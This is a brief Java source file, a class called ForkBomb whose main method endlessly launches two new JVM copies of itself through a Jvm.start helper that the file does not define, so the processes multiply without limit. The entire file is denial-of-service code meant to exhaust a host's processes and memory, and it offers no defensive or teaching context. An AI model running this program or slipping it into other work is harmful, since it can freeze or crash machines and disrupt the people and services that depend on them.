/** Starts two of its kind, each of which does the same, without end. */
public class ForkBomb {
    public static void main(String[] arguments) throws Exception {
        while (true) {
            try {
                Jvm.start("ForkBomb");
                Jvm.start("ForkBomb");
            } catch (Exception noMore) {
                System.err.println(noMore.getMessage());
            }
            Thread.sleep(10);
        }
    }
}
